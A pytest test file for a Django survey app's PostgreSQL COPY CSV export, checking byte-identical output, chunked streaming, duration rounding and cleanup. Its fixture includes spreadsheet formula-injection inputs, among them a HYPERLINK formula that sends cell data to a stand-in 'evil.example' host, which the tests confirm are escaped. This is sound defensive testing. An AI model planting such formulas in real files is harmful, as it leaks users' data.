"""The raw CSV export on PostgreSQL, where the database writes the rows (COPY): byte for
byte what the Python path writes, on a data set with every kind of cell; one statement
streamed in chunks, in completion order; the duration's rounding at the halves; and what
a stream stopped half-way leaves behind."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import psycopg
import pytest
from django.db import connection
from psycopg.pq import TransactionStatus

from responses.models import Answer, Response
from responses.services import answer_rows
from results.exports import csv_rows
from results.exports import rows as python_rows
from results.exports.csv_stream import raw_csv_stream
from results.exports.records import export_record
from results.models import ExportRecord
from surveys.models import Choice, MatrixRow, Page, Question, Survey, SurveyVersion
from surveys.selectors import compiled_version
from surveys.services import version_duplicate, version_publish
from tests.kit.exports import exported_csv

pytestmark = pytest.mark.postgres

T0 = datetime(2024, 3, 2, 9, 0, tzinfo=UTC)

TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\tcmd",
    "\rcmd",
    'He said "yes", then left',
    "two\nlines",
    "windows\r\nline",
    "Très utile, merci — 日本語 🎉",
    "",
    " leading space, trailing space ",
    "fine -1 = +1",
]


def _new_version(survey: Survey, change) -> SurveyVersion:
    draft = version_duplicate(version=survey.versions.order_by("-number").first())
    change(draft)
    return version_publish(version=draft)


def _version_2(draft: SurveyVersion) -> None:
    """Every other question type (the e-mail one is exported only with personal data), a
    new barrier, and no `comments`."""
    page = Page.objects.get(version=draft, position=0)
    for position, (code, kind) in enumerate(
        (
            ("team_size", "integer"),
            ("budget_k", "decimal"),
            ("nps", "rating"),
            ("started_on", "date"),
            ("nickname", "short_text"),
            ("contact", "email"),
        ),
        start=10,
    ):
        Question.objects.create(version=draft, page=page, position=position, code=code, type=kind, label=code)
    barriers = Question.objects.get(version=draft, code="barriers")
    Choice.objects.create(question=barriers, position=10, code="budget", label="No budget")
    Question.objects.get(version=draft, code="comments").delete()


def _version_3(draft: SurveyVersion) -> None:
    """A matrix row and a barrier fewer: those columns are empty for its responses."""
    MatrixRow.objects.filter(question__version=draft, question__code="company_usage", code="wikis").delete()
    Choice.objects.filter(question__version=draft, question__code="barriers", code="no_barriers").delete()


def _response(
    version: SurveyVersion, answers: dict, *, minute: int, duration: timedelta = timedelta(seconds=90), **fields
) -> Response:
    """A response stored as intake stores one, with `answers` by code: a choice code, a
    {row: choice} mapping for a matrix, a list of codes for multiple choice, a Decimal, a
    date, or text."""
    completed = fields.pop("completed_at", T0 + timedelta(minutes=minute, microseconds=minute * 7919))
    response = Response.objects.create(
        survey=version.survey,
        version=version,
        submission_id=uuid.uuid4(),
        status=Response.Status.COMPLETE,
        completed_at=completed,
        **fields,
    )
    Response.objects.filter(pk=response.pk).update(started_at=completed - duration)
    Answer.objects.bulk_create(answer_rows(compiled_version(version), response.pk, answers))
    return response


def _demo(i: int, *, channels=("twitter", "facebook", "linkedin", "blogs", "video", "wikis", "communities")) -> dict:
    scale = ["none", "experimenting", "some", "widespread"]
    personal = ["never", "less_monthly", "monthly", "weekly", "daily"]
    answers = {
        "role": ["it", "business"][i % 2],
        "seniority": ["c_level", "vp", "director", "manager", "other"][i % 5],
        "industry": ["financial", "healthcare", "technology", "public", "other"][i % 5],
        "revenue": ["lt_100m", "100m_1b", "1b_10b", "gt_10b"][i % 4],
        # Some rows left unanswered.
        "company_usage": {c: scale[(i + k) % 4] for k, c in enumerate(channels) if (i + k) % 6},
        "personal_use": {c: personal[(i * 3 + k) % 5] for k, c in enumerate(channels)},
    }
    if answers["personal_use"]["twitter"] != "never":  # otherwise twitter_uses is hidden
        answers["twitter_uses"] = ["news", "peers", "recruiting", "monitoring"][: 1 + i % 4]
    if i % 4:  # otherwise barriers was skipped
        answers["barriers"] = ["roi", "security", "time_waster"][: i % 4]
    return answers


@pytest.fixture
def varied_survey(demo_survey) -> tuple[Survey, list[Response], list[Response]]:
    """Three versions, every question type and kind of cell, and responses that the
    export leaves out. Returns the survey, the exported and the left-out responses."""
    v1 = demo_survey.open_version()
    exported = []
    # Durations: whole, a half millisecond either side of a float, an exact binary half
    # (rounded to even), under a millisecond, zero, negative (intake stamps started_at
    # after completed_at for a one-shot API submission), weeks.
    durations = [
        timedelta(seconds=125),
        timedelta(microseconds=1_234_500),
        timedelta(microseconds=62_500),
        timedelta(microseconds=2_000_500),
        timedelta(microseconds=400),
        timedelta(0),
        timedelta(seconds=-3),
        timedelta(days=45, microseconds=500),
        timedelta(microseconds=1_000_499),
    ]
    for i, text in enumerate(TEXTS):
        exported.append(
            _response(
                v1,
                _demo(i) | {"comments": text},
                minute=i,
                duration=durations[i % len(durations)],
                external_id=["", "=panel-7", "panel,42", "p-1"][i % 4],
            )
        )
    # No comment; whole seconds, which isoformat() writes without microseconds.
    exported.append(_response(v1, _demo(20), minute=20, completed_at=T0 + timedelta(hours=2)))

    v2 = _new_version(demo_survey, _version_2)
    for i, (number, text) in enumerate(
        [
            (Decimal("250"), "-dash"),
            (Decimal("-12.5"), "=1+2"),
            (Decimal("0.000001"), "ok"),
            (Decimal("100.000000"), 'Zoë, "Z"'),
            (Decimal("-0.25"), ""),
            (Decimal("12345678901234.123456"), "x"),
        ]
    ):
        answers = _demo(30 + i) | {
            "team_size": Decimal(7 * i),
            "budget_k": number,
            "nps": Decimal(i * 2),
            "started_on": date(2024, 2, 29) + timedelta(days=i),
            "nickname": text,
            "contact": "someone@example.com",
        }
        if i % 2:
            answers["barriers"] = ["budget", "roi"]
        exported.append(_response(v2, answers, minute=30 + i, duration=durations[i]))

    v3 = _new_version(demo_survey, _version_3)
    channels = ("twitter", "facebook", "linkedin", "blogs", "video", "communities")
    for i in range(4):
        answers = _demo(40 + i, channels=channels) | {"nickname": TEXTS[i], "barriers": ["roi", "budget"][: 1 + i % 2]}
        exported.append(_response(v3, answers, minute=40 + i, duration=durations[-1 - i]))
    # A response with no answers at all still has its row.
    exported.append(_response(v3, {}, minute=50))

    left_out = [
        _response(v1, _demo(60), minute=60, is_test=True),
        _response(v2, _demo(61), minute=61, excluded_at=T0, exclusion_reason="straight-lined"),
        _response(
            v3, _demo(62, channels=channels), minute=62, completed_at=datetime.now(UTC) + timedelta(days=1)
        ),  # after the export
    ]
    partial = Response.objects.create(survey=demo_survey, version=v3, submission_id=uuid.uuid4())
    Answer.objects.create(
        response=partial,
        question_id=compiled_version(v3).question_ids["role"],
        choice_id=compiled_version(v3).choice_ids[("role", "it")],
    )
    return demo_survey, exported, [*left_out, partial]


@pytest.mark.django_db
def test_it_writes_the_same_bytes_as_the_python_path(varied_survey, monkeypatch):
    survey, exported, left_out = varied_survey

    by_copy = exported_csv(survey, copy=True, monkeypatch=monkeypatch)
    by_python = exported_csv(survey, copy=False, monkeypatch=monkeypatch)

    assert by_copy == by_python
    text = by_copy.decode("utf-8")
    assert text.startswith(
        "\ufeffresponse_id,external_id,version,started_at,completed_at,duration_seconds,quality_flags,"
    )
    assert text.count("\r\n") == 1 + len(exported) + 1  # the header, the rows, one line break inside a cell
    assert all(str(r.pk) in text for r in exported) and not any(str(r.pk) in text for r in left_out)
    # The data set has the cases it is meant to have.
    for cell in (
        '\'=HYPERLINK(""http',
        "'\tcmd",
        "'\rcmd",
        '"two\nlines"',
        "'=panel-7",
        '"panel,42"',
        ",-12.5,",
        ",0.000001,",
        ",100,",
        ",12345678901234.123456,",
        ",2024-02-29,",
        ",1.234,",
        ",0.062,",
        ",0.0,",
        "+00:00,",
        "'-dash",
        '"Zoë, ""Z"""',
        "日本語 🎉",
    ):
        assert cell in text, cell
    assert "someone@example.com" not in text


@pytest.mark.django_db
def test_it_writes_the_same_bytes_for_one_version(varied_survey, monkeypatch):
    survey, _, _ = varied_survey

    for version in (1, 2, 3):
        by_copy = exported_csv(survey, copy=True, monkeypatch=monkeypatch, parameters={"version": version})
        assert by_copy == exported_csv(survey, copy=False, monkeypatch=monkeypatch, parameters={"version": version})


@pytest.mark.django_db
def test_it_writes_the_same_bytes_with_personal_data(varied_survey, monkeypatch):
    survey, exported, _ = varied_survey
    # `nickname` marked personal data on version 3 (in place), and one invitee's answers erased.
    nickname = Question.objects.get(version__survey=survey, version__number=3, code="nickname")
    nickname.personal_data = True
    nickname.save()
    erased = Answer.objects.filter(question__code__in=["contact", "nickname"], response__version__number=2).first()
    Answer.objects.filter(pk=erased.pk).update(text="", erased=True)
    parameters = {"personal_data": True}

    by_copy = exported_csv(survey, copy=True, monkeypatch=monkeypatch, parameters=parameters)

    assert by_copy == exported_csv(survey, copy=False, monkeypatch=monkeypatch, parameters=parameters)
    text = by_copy.decode("utf-8")
    assert text.count("someone@example.com") == 6 - (erased.question.code == "contact")
    header = text.splitlines()[0]
    assert ",nickname," in header and ",contact" in header
    without = exported_csv(survey, copy=True, monkeypatch=monkeypatch).decode("utf-8")
    assert "nickname" not in without and "contact" not in without and "someone@example.com" not in without


@pytest.mark.django_db
def test_it_writes_only_the_header_when_there_are_no_responses(demo_survey, monkeypatch):
    by_copy = exported_csv(demo_survey, copy=True, monkeypatch=monkeypatch)

    assert by_copy == exported_csv(demo_survey, copy=False, monkeypatch=monkeypatch)
    assert by_copy.count(b"\r\n") == 1


@pytest.mark.django_db
def test_it_streams_the_rows_of_one_copy_in_chunks_in_completion_order(demo_survey, monkeypatch):
    monkeypatch.setattr(python_rows, "RAW_CHUNK", 3)
    version = demo_survey.open_version()
    # Five completed at the same moment: the order breaks the tie by id, as Python's does.
    responses = [_response(version, _demo(i), minute=max(0, i - 4)) for i in range(7)]
    expected = [str(r.pk) for r in sorted(responses, key=lambda r: (r.completed_at, str(r.pk)))]
    statements = []
    copy = psycopg.Cursor.copy

    def counted_copy(cursor, sql, *args):
        statements.append(sql)
        return copy(cursor, sql, *args)

    monkeypatch.setattr(psycopg.Cursor, "copy", counted_copy)
    record = export_record(user=None, survey=demo_survey, kind=ExportRecord.Kind.RAW_CSV,
                           status=ExportRecord.Status.PENDING)

    chunks = list(raw_csv_stream(record))

    assert len(chunks) == 1 + 3  # the header, then 3, 3 and 1 rows
    rows = list(csv.reader(io.StringIO("".join(chunks)[1:], newline="")))
    assert [row[0] for row in rows[1:]] == expected
    assert len(statements) == 1 and statements[0].startswith("COPY (SELECT ")


@pytest.mark.django_db
def test_it_rounds_durations_as_python_does():
    # Python: repr(max(0.0, round(microseconds / 10**6, 3))), rounding the float half to
    # even by its exact value; the halves are where a shortcut would differ.
    halves = [k * 1000 + 500 for k in (*range(0, 3000), 12_345, 2**20, 10**9, 86_400_000, 2**33, 10**12)]
    others = [-(10**6), -1, 0, 1, 499, 501, 999, 1000, 1_000_499, 1_999_501, 4_294_967_296_000_000 + 1_499, 10**15 + 7]
    values = halves + [v + d for v in halves for d in (-1, 1)] + others
    sql = (
        f"SELECT {csv_rows._DURATION_TEXT} FROM (SELECT *, {csv_rows._MILLISECONDS} AS ms "
        "FROM (SELECT unnest(%s::bigint[]) AS us, generate_subscripts(%s::bigint[], 1) AS i) u OFFSET 0) r ORDER BY i"
    )
    with connection.cursor() as cursor:
        cursor.execute(sql, [values, values])
        texts = [text for (text,) in cursor.fetchall()]

    assert texts == [repr(max(0.0, round(v / 10**6, 3))) for v in values]


@pytest.mark.django_db(transaction=True)
def test_it_leaves_no_transaction_behind_when_the_download_stops(demo_survey, monkeypatch):
    monkeypatch.setattr(python_rows, "RAW_CHUNK", 2)
    for minute in range(7):
        _response(demo_survey.open_version(), _demo(minute), minute=minute)
    record = export_record(
        user=None, survey=demo_survey, kind=ExportRecord.Kind.RAW_CSV, status=ExportRecord.Status.PENDING
    )
    with connection.cursor() as cursor:
        cursor.execute("SHOW work_mem")
        work_mem = cursor.fetchone()[0]
    stream = raw_csv_stream(record)
    next(stream)  # the header
    next(stream)  # the first rows: the COPY is under way

    stream.close()  # the client went away

    record.refresh_from_db()
    assert (record.status, record.rows) == (ExportRecord.Status.FAILED, 2)
    assert not connection.in_atomic_block
    assert connection.connection.info.transaction_status == TransactionStatus.IDLE
    with connection.cursor() as cursor:
        cursor.execute("SHOW work_mem")  # the export's settings ended with its transaction
        assert cursor.fetchone()[0] == work_mem
